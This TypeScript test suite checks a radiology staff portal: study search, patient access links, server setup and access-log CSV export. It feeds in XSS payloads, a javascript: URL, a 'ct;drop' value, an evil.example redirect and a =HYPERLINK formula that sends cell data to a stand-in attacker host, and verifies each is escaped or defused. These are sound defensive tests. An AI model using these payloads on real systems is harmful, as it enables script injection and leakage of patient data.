import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type StaffClient, type StaffHarness, startStaffHarness } from './staff.harness.js';

let h: StaffHarness;
let admin: StaffClient;
let staff: StaffClient;
const seen: string[] = [];

const JANE = '1.2.826.0.1.3680043.8.498.100';
const JOHN = '1.2.826.0.1.3680043.8.498.101';
const EVIL = '1.2.826.0.1.3680043.8.498.102';
const STAFF_CSP =
  "default-src 'self'; img-src 'self' data:; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'";

beforeAll(async () => {
  h = await startStaffHarness();
  h.source.add({
    studyInstanceUid: JANE,
    patientName: 'DOE^JANE',
    patientId: 'P-100',
    studyDate: '20240105',
    modalities: ['CT'],
    accessionNumber: 'ACC100',
  });
  h.source.add({
    studyInstanceUid: JOHN,
    patientName: 'DOE^JOHN',
    patientId: 'P-101',
    studyDate: '20240310',
    modalities: ['MR'],
    accessionNumber: 'ACC101',
  });
  h.source.add({
    studyInstanceUid: EVIL,
    patientName: '<script>alert(1)</script>',
    patientId: 'P-102',
    description: '"><img src=x onerror=alert(1)>',
    studyDate: '20231201',
  });
  for (let i = 0; i < 30; i++) {
    h.source.add({
      studyInstanceUid: `1.2.3.4.${i + 1}`,
      patientName: `SERIES^PATIENT${i}`,
      patientId: `S-${i}`,
      studyDate: '20220101',
    });
  }
  ({ admin, staff } = await h.signedInPair());
});
afterAll(async () => {
  const all = h.logs.join('\n');
  expect(seen.length).toBeGreaterThan(0);
  for (const t of seen) expect(all).not.toContain(t);
  await h.close();
});

const lastEvent = (event: string) =>
  h.database.db
    .selectFrom('access_log')
    .selectAll()
    .where('event', '=', event)
    .orderBy('id', 'desc')
    .executeTakeFirst();

function linkOf(text: string): string {
  const url = /id="study-link"[^>]*value="([^"]+)"/.exec(text)?.[1];
  if (!url) throw new Error('no link on the page');
  const token = url.split('?')[1] as string;
  seen.push(token);
  return url;
}

async function createLink(uid: string, fields: Record<string, string> = { never: '1' }) {
  await staff.get(`/staff/studies/${uid}`);
  const res = await staff.post(`/staff/studies/${uid}/token`, fields);
  expect(res.status).toBe(303);
  return linkOf((await staff.get(`/staff/studies/${uid}`)).text);
}

describe('headers and markup', () => {
  it('staff pages: strict CSP with same-origin script, no-store, no-referrer, nosniff; nothing inline', async () => {
    for (const path of [
      '/staff/sign-in',
      '/staff/studies',
      `/staff/studies/${JANE}`,
      '/staff/access-log',
      '/staff/setup',
      '/staff/users',
      '/staff/api-keys',
    ]) {
      const res = path === '/staff/sign-in' ? await h.client().get(path) : await admin.get(path);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('content-security-policy')).toBe(STAFF_CSP);
      expect(res.headers.get('cache-control')).toBe('no-store');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
      expect(res.text).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
      expect(res.text, path).not.toMatch(/<[^>]*\s(style|on[a-z]+)=/i);
      expect(res.text).toContain('<main id="main"');
      expect(res.text).toContain('<html lang="en" dir="ltr">');
    }
  });

  it('serves its stylesheet and script same-origin', async () => {
    const css = await fetch(`${h.url}/staff/assets/staff.css`);
    expect(css.headers.get('content-type')).toBe('text/css; charset=utf-8');
    expect(await css.text()).toContain(':focus-visible');
    const js = await fetch(`${h.url}/staff/assets/staff.js`);
    expect(js.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(await js.text()).toContain('navigator.clipboard');
  });
});

describe('studies page', () => {
  it('finds studies by name with an implied wildcard, and shows each one’s link status from one query', async () => {
    await createLink(JANE);
    const before = h.queries.length;
    const res = await staff.get('/staff/studies?patientName=doe');
    expect(res.status).toBe(200);
    // The store is asked for up to 50 matches to bring the index up to date; the page comes from it.
    expect(h.search.queries.at(-1)).toMatchObject({ patientName: 'doe*', limit: 50, offset: 0 });
    expect(res.text).toContain('DOE, JANE');
    expect(res.text).toContain('DOE, JOHN');
    expect(res.text).not.toContain('PATIENT1');
    const rowOf = (name: string) => res.text.split('<tr>').find((r) => r.includes(name)) as string;
    expect(rowOf('DOE, JANE')).toContain('badge ok');
    expect(rowOf('DOE, JOHN')).toContain('No link');
    const tokenQueries = h.queries.slice(before).filter((q) => /from "tokens"/.test(q));
    expect(tokenQueries).toHaveLength(1);
  });

  it('passes ID, accession, date range and modality to the store', async () => {
    const res = await staff.get(
      '/staff/studies?patientId=P-101&accession=ACC101&from=2024-03-01&to=2024-03-31&modality=MR',
    );
    expect(res.status).toBe(200);
    expect(h.search.queries.at(-1)).toMatchObject({
      patientId: 'P-101',
      accessionNumber: 'ACC101',
      studyDate: '20240301-20240331',
      modality: 'MR',
    });
    expect(res.text).toContain('DOE, JOHN');
    expect(res.text).not.toContain('DOE, JANE');
    await staff.get('/staff/studies?patientName=doe%20jane');
    expect(h.search.queries.at(-1)?.patientName).toBe('doe*jane*');
    const wild = await staff.get('/staff/studies?patientName=Doe%2C%20J%3Fne');
    expect(h.search.queries.at(-1)?.patientName).toBe('Doe*J?ne');
    expect(wild.text).toContain('DOE, JANE');
  });

  it('pages through results', async () => {
    const first = await staff.get('/staff/studies?patientName=SERIES');
    expect(first.text).toContain('Studies 1–25');
    expect(first.text).toContain('href="/staff/studies?patientName=SERIES&amp;page=2"');
    const second = await staff.get('/staff/studies?patientName=SERIES&page=2');
    expect(h.search.queries.at(-1)).toMatchObject({ offset: 0, limit: 50 });
    expect(second.text).toContain('Studies 26–30 of 30');
    expect(second.text).toContain('rel="prev"');
    expect(second.text).not.toContain('rel="next"');
  });

  it.each([
    ['from=2024-05-01&to=2024-01-01', 'the end date is before the start date'],
    ['from=2024-02-30', 'not a valid date'],
    ['modality=ct%3Bdrop', 'choose a modality from the list'],
    ['patientName=a%5Cb', 'remove control characters and backslashes'],
    ['page=0', 'Page'],
    ['patientId=a&patientId=b', 'Patient ID'],
  ])('bad input %s is a 400 with the form and the error shown', async (query, message) => {
    const res = await staff.get(`/staff/studies?${query}`);
    expect(res.status).toBe(400);
    expect(res.text).toContain('role="alert"');
    expect(res.text).toContain(message);
    expect(res.text).toContain('<form method="get" action="/staff/studies"');
  });

  it('escapes everything from DICOM', async () => {
    const list = await staff.get('/staff/studies?patientId=P-102');
    expect(list.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(list.text).not.toContain('<script>alert');
    const page = await staff.get(`/staff/studies/${EVIL}`);
    expect(page.text).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(page.text).not.toContain('<img src=x');
  });

  it('a store that is down is a 503 page with the form, never a 500', async () => {
    h.search.down = true;
    try {
      const res = await staff.get('/staff/studies?patientName=doe');
      expect(res.status).toBe(503);
      expect(res.text).toContain('The image archive is not answering');
      expect(res.headers.get('retry-after')).toBe('10');
      // A study with a link still shows from the kept copy.
      const page = await staff.get(`/staff/studies/${JANE}`);
      expect(page.status).toBe(200);
      expect(page.text).toContain('last copy this service kept');
      expect((await staff.get(`/staff/studies/${JOHN}`)).status).toBe(503);
    } finally {
      h.search.down = false;
    }
  });

  it('unknown and malformed study UIDs are 404 / 400 pages', async () => {
    expect((await staff.get('/staff/studies/1.2.999')).status).toBe(404);
    const bad = await staff.get('/staff/studies/1.2.abc');
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('Request not understood');
  });
});

describe('a study’s link', () => {
  it('is made on request, shown with copy button, QR code and handout; showing it is logged', async () => {
    const first = await staff.get(`/staff/studies/${JOHN}`);
    expect(first.text).toContain('This study has no active link yet.');
    expect(first.text).not.toContain('id="study-link"');
    const made = await staff.post(`/staff/studies/${JOHN}/token`, { expires: '', never: '1' });
    expect(made.status).toBe(303);
    expect(made.location).toBe(`/staff/studies/${JOHN}?done=issued`);
    const page = await staff.get(made.location as string);
    const url = linkOf(page.text);
    expect(url).toMatch(/^http:\/\/203\.0\.113\.10:3000\/token\?[A-Za-z0-9]{64}$/);
    expect(page.text).toContain('data-copy="study-link"');
    expect(page.text).toMatch(/<svg class="qr" role="img" aria-label="QR code of the link for the patient"/);
    expect(page.text).toContain('does not expire');
    expect(page.text).toContain('A link was made.');
    expect(await lastEvent('token_issued')).toMatchObject({ actor: 'staff:bob', study_instance_uid: JOHN });
    expect(await lastEvent('token_displayed')).toMatchObject({
      actor: 'staff:bob',
      study_instance_uid: JOHN,
    });
    const patient = await fetch(url.replace('http://203.0.113.10:3000', h.url));
    expect(patient.status).toBe(200);
    const handout = await staff.get(`/staff/studies/${JOHN}/handout`);
    expect(handout.text).toContain(url);
    expect(handout.text).toContain('<svg class="qr"');
    expect(handout.text).toContain('Your imaging study online');
    expect(handout.text).toContain('St. Example Hospital · Radiology');
  });

  it('a new link gets the default expiry from the setup', async () => {
    await admin.get('/staff/setup');
    const res = await admin.post('/staff/setup', {
      institution: 'St. Example Hospital',
      department: 'Radiology',
      publicAddress: '203.0.113.10',
      localAddress: '10.1.2.3',
      port: '3000',
      serverName: '',
      zipContent: 'as-stored',
      viewerUrl: 'https://viewer.example.org/',
      defaultExpiryDays: '30',
    });
    expect(res.status).toBe(303);
    const uid = '1.2.3.4.1';
    const page = await staff.get(`/staff/studies/${uid}`);
    const day = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
    expect(page.text).toContain(`name="expires" type="date" value="${day}"`);
    await staff.post(`/staff/studies/${uid}/token`, { expires: day });
    const row = await h.database.db
      .selectFrom('tokens')
      .select('expires_at')
      .where('study_instance_uid', '=', uid)
      .where('revoked_at', 'is', null)
      .executeTakeFirstOrThrow();
    expect(row.expires_at?.toISOString()).toBe(`${day}T23:59:59.999Z`);
    linkOf((await staff.get(`/staff/studies/${uid}`)).text);
  });

  it('expiry is editable; a past date is a 400 with the error shown; never clears it', async () => {
    const uid = '1.2.3.4.2';
    await createLink(uid);
    const past = await staff.post(`/staff/studies/${uid}/expiry`, { expires: '2001-01-01' });
    expect(past.status).toBe(400);
    expect(past.text).toContain('choose today or a later day');
    expect(past.text).toContain('id="study-link"');
    const none = await staff.post(`/staff/studies/${uid}/expiry`, { expires: '' });
    expect(none.status).toBe(400);
    expect(none.text).toContain('Never expires');
    const ok = await staff.post(`/staff/studies/${uid}/expiry`, { expires: '2099-12-31' });
    expect(ok.status).toBe(303);
    const after = await staff.get(`/staff/studies/${uid}?done=expiry`);
    expect(after.text).toContain('works until 2099-12-31 23:59 UTC');
    expect(after.text).toContain('The expiry date was saved.');
    expect(await lastEvent('token_expiry_changed')).toMatchObject({
      actor: 'staff:bob',
      study_instance_uid: uid,
      detail: { from: null, to: '2099-12-31T23:59:59.999Z' },
    });
    await staff.post(`/staff/studies/${uid}/expiry`, { never: '1', expires: '2099-12-31' });
    expect((await staff.get(`/staff/studies/${uid}`)).text).toContain('does not expire');
  });

  it('revoking asks first, then the link stops working at once', async () => {
    const uid = '1.2.3.4.3';
    const url = await createLink(uid);
    const confirm = await staff.get(`/staff/studies/${uid}/revoke`);
    expect(confirm.text).toContain('Revoke the link?');
    expect(confirm.text).toContain(`action="/staff/studies/${uid}/revoke"`);
    // Opening the confirmation changed nothing yet.
    expect((await fetch(url.replace('http://203.0.113.10:3000', h.url))).status).toBe(200);
    const res = await staff.post(`/staff/studies/${uid}/revoke`);
    expect(res.status).toBe(303);
    const gone = await fetch(url.replace('http://203.0.113.10:3000', h.url));
    expect(gone.status).toBe(404);
    expect(await gone.text()).toContain('not found or is no longer available');
    expect((await staff.get(`/staff/studies/${uid}?done=revoked`)).text).toContain('The link was revoked');
    expect(await lastEvent('token_revoked')).toMatchObject({ actor: 'staff:bob', study_instance_uid: uid });
    // A second click is harmless.
    expect((await staff.post(`/staff/studies/${uid}/revoke`)).status).toBe(303);
  });

  it('reissuing replaces the link after a confirmation', async () => {
    const uid = '1.2.3.4.4';
    const old = await createLink(uid);
    const confirm = await staff.get(`/staff/studies/${uid}/reissue`);
    expect(confirm.text).toContain('Replace the link?');
    const res = await staff.post(`/staff/studies/${uid}/reissue`, { never: '1' });
    expect(res.status).toBe(303);
    const fresh = linkOf((await staff.get(`/staff/studies/${uid}`)).text);
    expect(fresh).not.toBe(old);
    expect((await fetch(old.replace('http://203.0.113.10:3000', h.url))).status).toBe(404);
    expect((await fetch(fresh.replace('http://203.0.113.10:3000', h.url))).status).toBe(200);
  });

  it('replacing while the store is down uses the stored study copy and makes the new link', async () => {
    const uid = '1.2.3.4.4.1';
    h.source.add({ studyInstanceUid: uid });
    const old = await createLink(uid);
    h.source.down = true;
    try {
      const res = await staff.post(`/staff/studies/${uid}/reissue`, { never: '1' });
      expect(res.status).toBe(303);
      const fresh = linkOf((await staff.get(`/staff/studies/${uid}`)).text);
      expect(fresh).not.toBe(old);
      expect((await fetch(old.replace('http://203.0.113.10:3000', h.url))).status).toBe(404);
      expect((await fetch(fresh.replace('http://203.0.113.10:3000', h.url))).status).toBe(200);
    } finally {
      h.source.down = false;
    }
  });

  it('replacing keeps the old link when the new one cannot be made', async () => {
    const uid = '1.2.3.4.4.2';
    h.source.add({ studyInstanceUid: uid });
    const old = await createLink(uid);
    // The database refuses the new token midway (after the old one was revoked in the same transaction).
    const owner = new pg.Client({ connectionString: h.testDb.ownerUrl });
    await owner.connect();
    try {
      await owner.query(`CREATE FUNCTION fail_token_insert() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN RAISE EXCEPTION 'database went away' USING ERRCODE = '57P03'; END $$`);
      await owner.query(
        `CREATE TRIGGER fail_token_insert BEFORE INSERT ON tokens FOR EACH ROW
           WHEN (NEW.study_instance_uid = '${uid}') EXECUTE FUNCTION fail_token_insert()`,
      );
      const res = await staff.post(`/staff/studies/${uid}/reissue`, { never: '1' });
      expect(res.status).toBe(503);
      expect((await fetch(old.replace('http://203.0.113.10:3000', h.url))).status).toBe(200);
      const active = await owner.query(
        'SELECT count(*)::int AS n FROM tokens WHERE study_instance_uid = $1 AND revoked_at IS NULL',
        [uid],
      );
      expect(active.rows[0].n).toBe(1);
      const revokedLogged = await owner.query(
        "SELECT count(*)::int AS n FROM access_log WHERE event = 'token_revoked' AND study_instance_uid = $1",
        [uid],
      );
      expect(revokedLogged.rows[0].n).toBe(0);
    } finally {
      await owner.query('DROP TRIGGER IF EXISTS fail_token_insert ON tokens');
      await owner.end();
    }
  });

  it('a link whose encryption key is gone is offered for replacement, not an error', async () => {
    const uid = '1.2.3.4.5';
    const old = await createLink(uid);
    // What a changed TOKEN_ENCRYPTION_KEY looks like: a ciphertext this server cannot open.
    await h.database.pool.query(
      "UPDATE tokens SET token_ciphertext = decode(repeat('00', 40), 'hex') WHERE study_instance_uid = $1 AND revoked_at IS NULL",
      [uid],
    );
    const page = await staff.get(`/staff/studies/${uid}`);
    expect(page.status).toBe(200);
    expect(page.text).toContain('cannot be shown again');
    expect(page.text).toContain(`/staff/studies/${uid}/reissue`);
    expect((await staff.get(`/staff/studies/${uid}/handout`)).status).toBe(303);
    expect((await staff.post(`/staff/studies/${uid}/reissue`, { never: '1' })).status).toBe(303);
    const fresh = linkOf((await staff.get(`/staff/studies/${uid}`)).text);
    expect(fresh).not.toBe(old);
    expect((await fetch(fresh.replace('http://203.0.113.10:3000', h.url))).status).toBe(200);
  });
});

describe('server setup', () => {
  const base = {
    institution: 'St. Example Hospital',
    department: 'Radiology',
    publicAddress: '203.0.113.10',
    localAddress: '10.1.2.3',
    port: '3000',
    serverName: '',
    zipContent: 'as-stored',
    viewerUrl: 'https://viewer.example.org/',
    defaultExpiryDays: '',
  };

  it('shows the link a token would get and why', async () => {
    await admin.get('/staff/setup');
    await admin.post('/staff/setup', base);
    const page = await admin.get('/staff/setup');
    expect(page.text).toContain('http://203.0.113.10:3000/token?…');
    expect(page.text).toContain('It uses the public IP address, because the web server name is blank.');
    expect(page.text).toContain('The port is shown because it is not the default for http.');
    expect(page.text).toContain('value="10.1.2.3"');
  });

  it('saves a server name with SSL; links and the preview follow; the change is logged', async () => {
    await admin.get('/staff/setup');
    const res = await admin.post('/staff/setup', {
      ...base,
      serverName: 'pacs.example.org',
      ssl: '1',
      port: '443',
    });
    expect(res.status).toBe(303);
    const page = await admin.get(res.location as string);
    expect(page.text).toContain('The server setup was saved.');
    expect(page.text).toContain('https://pacs.example.org/token?…');
    expect(page.text).toContain('It uses the web server name, because one is set.');
    expect(await lastEvent('config_changed')).toMatchObject({
      actor: 'staff:alice',
      detail: {
        serverName: { from: '', to: 'pacs.example.org' },
        ssl: { from: false, to: true },
        port: { from: 3000, to: 443 },
      },
    });
    const study = await staff.get(`/staff/studies/${JANE}`);
    expect(linkOf(study.text)).toMatch(/^https:\/\/pacs\.example\.org\/token\?[A-Za-z0-9]{64}$/);
    await admin.post('/staff/setup', base);
  });

  it.each([
    [{ port: 'abc' }, 'port', 'enter a port number'],
    [{ port: '70000' }, 'port', ''],
    [{ serverName: 'bad name.org' }, 'serverName', 'must be a DNS host name'],
    [{ publicAddress: '300.1.1.1' }, 'publicAddress', 'must be an IPv4 or IPv6 address'],
    [{ publicAddress: '', serverName: '' }, 'publicAddress', 'links need a host'],
    [{ viewerUrl: 'javascript:alert(1)' }, 'viewerUrl', 'must be an http(s) URL'],
    [{ zipContent: 'deflated' }, 'zipContent', 'choose what the zip contains'],
    [{ defaultExpiryDays: '-3' }, 'defaultExpiryDays', 'enter a number of days'],
  ])('bad input %j is a 400 with the form and the error shown', async (patch, field, message) => {
    await admin.get('/staff/setup');
    const before = await h.database.db.selectFrom('server_config').selectAll().executeTakeFirstOrThrow();
    const res = await admin.post('/staff/setup', { ...base, ...patch });
    expect(res.status).toBe(400);
    expect(res.text).toContain('role="alert"');
    expect(res.text).toContain(`href="#f-${field}"`);
    if (message) expect(res.text).toContain(message);
    // What was typed stays in the form.
    for (const v of Object.values(patch))
      if (v && field !== 'zipContent') expect(res.text).toContain(`value="${v.replace(/"/g, '&quot;')}"`);
    expect(await h.database.db.selectFrom('server_config').selectAll().executeTakeFirstOrThrow()).toEqual(
      before,
    );
  });
});

describe('the language of the staff pages', () => {
  it('is kept with the account from the form in every page, which comes back to the same page', async () => {
    const page = await staff.get('/staff/access-log?event=token_issued');
    expect(page.text).toContain('<html lang="en" dir="ltr">');
    expect(page.text).toContain(
      '<input type="hidden" name="next" value="/staff/access-log?event=token_issued">',
    );
    expect(page.text).toMatch(/<option value="en" lang="en" selected>English<\/option>/);
    const language = async () =>
      (
        await h.database.db
          .selectFrom('staff_users')
          .select('language')
          .where('username', '=', 'bob')
          .executeTakeFirstOrThrow()
      ).language;
    const saved = await staff.post('/staff/language', {
      language: 'en',
      next: '/staff/access-log?event=token_issued',
    });
    expect(saved.status).toBe(303);
    expect(saved.location).toBe('/staff/access-log?event=token_issued');
    expect(await language()).toBe('en');
    await staff.get('/staff/studies');
    const back = await staff.post('/staff/language', { language: '', next: 'https://evil.example/' });
    expect(back.location).toBe('/staff/studies');
    expect(await language()).toBe(null);
    await staff.get('/staff/studies');
    expect((await staff.post('/staff/language', { language: 'xx' })).status).toBe(400);
    expect((await staff.post('/staff/language', { language: 'en', _csrf: 'forged' })).status).toBe(403);
  });
});

describe('access log', () => {
  it('filters by study, event and date and shows who did what', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const res = await admin.get(
      `/staff/access-log?study=${JOHN}&event=token_issued&from=${today}&to=${today}`,
    );
    expect(res.status).toBe(200);
    expect(res.text).toContain('token_issued');
    expect(res.text).toContain('staff:bob');
    expect(res.text).toContain('1 entry');
    const none = await admin.get('/staff/access-log?from=2001-01-01&to=2001-01-02');
    expect(none.text).toContain('No entries');
    expect((await admin.get('/staff/access-log?event=nope')).status).toBe(400);
    expect((await admin.get('/staff/access-log?study=1.2.x')).status).toBe(400);
  });

  it('pages with a cursor', async () => {
    for (let i = 0; i < 55; i++) await fetch(`${h.url}/token?${'x'.repeat(64)}`);
    const first = await staff.get('/staff/access-log?event=invalid_token');
    const next = /href="(\/staff\/access-log\?event=invalid_token&amp;before=\d+)"/.exec(first.text)?.[1];
    expect(next).toBeTruthy();
    const second = await staff.get((next as string).replace(/&amp;/g, '&'));
    expect(second.status).toBe(200);
    expect(second.text).toContain('invalid_token');
  });

  it('exports CSV with formula cells defused, and logs the export', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await fetch(`${h.url}/token?${'y'.repeat(64)}`, { headers: { 'user-agent': evil } });
    await fetch(`${h.url}/token?${'z'.repeat(64)}`, { headers: { 'user-agent': '@SUM(1+1)' } });
    const res = await fetch(`${h.url}/staff/access-log.csv?event=invalid_token`, {
      headers: { cookie: [...staff.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="access-log-\d{8}\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const csv = await res.text();
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(
      '"time_utc","event","outcome","token_id","study_instance_uid","patient_name","patient_id","client_ip","user_agent","bytes","actor","detail"',
    );
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(`"'@SUM(1+1)"`);
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
    // Every field quoted: no cell a spreadsheet could take for a formula, however it splits.
    for (const line of lines.filter(Boolean))
      expect(line, line).toMatch(/^"(?:[^"]|"")*"(,"(?:[^"]|"")*")*$/);
    expect(lines.filter((l) => l.includes('","invalid_token","')).length).toBeGreaterThanOrEqual(57);
    expect(await lastEvent('access_log_exported')).toMatchObject({
      actor: 'staff:bob',
      detail: { event: 'invalid_token' },
    });
  });

  it('filters by patient name (any case, a word of it) and ID, with the patient in its own columns and in the CSV', async () => {
    const EVIL = '1.2.826.0.1.3680043.8.498.150';
    h.source.add({ studyInstanceUid: EVIL, patientName: '+CMD^Ἐλένη', patientId: '@P-150' });
    await createLink(EVIL);
    const byName = await staff.get(`/staff/access-log?patientName=${encodeURIComponent('ελενη')}`);
    expect(byName.status).toBe(200);
    expect(byName.text).toContain('+CMD, Ἐλένη');
    expect(byName.text).toContain('@P-150');
    expect(byName.text).not.toContain('DOE, JANE');
    const byId = await staff.get('/staff/access-log?patientId=%40p-150&event=token_issued');
    expect(byId.text).toContain('1 entry');
    expect(byId.text).toContain(`<td class="uid mono"><a href="/staff/access-log?study=${EVIL}`);
    const none = await staff.get('/staff/access-log?patientName=nobody');
    expect(none.text).toContain('No entries');
    const res = await fetch(`${h.url}/staff/access-log.csv?patientId=%40P-150`, {
      headers: { cookie: [...staff.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    const csv = await res.text();
    expect(csv).toContain(`"${EVIL}","'+CMD, Ἐλένη","'@P-150"`);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it('shows a user agent as browser and system, the whole string on demand', async () => {
    const chrome =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
    await fetch(`${h.url}/token?${'u'.repeat(64)}`, { headers: { 'user-agent': chrome } });
    const page = await staff.get('/staff/access-log?event=invalid_token');
    expect(page.text).toContain(
      `<details><summary>Chrome 120 · Windows 10</summary><span class="ua-full">${chrome}</span></details>`,
    );
  });

  it('collapses repeated views of a study’s link by one person into one entry with their number', async () => {
    await createLink(JOHN);
    for (let i = 0; i < 4; i++) await staff.get(`/staff/studies/${JOHN}`);
    const page = await staff.get(`/staff/access-log?study=${JOHN}&event=token_displayed`);
    const rows = page.text.split('<tr>').slice(2);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatch(/[5-9] views since/);
    const csv = await (
      await fetch(`${h.url}/staff/access-log.csv?study=${JOHN}&event=token_displayed`, {
        headers: { cookie: [...staff.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
      })
    ).text();
    expect(csv.split('\r\n').filter((l) => l.includes('"token_displayed"')).length).toBeGreaterThanOrEqual(5);
  });

  it('the CSV export needs a session', async () => {
    const res = await fetch(`${h.url}/staff/access-log.csv`, { redirect: 'manual' });
    expect(res.status).toBe(303);
  });
});
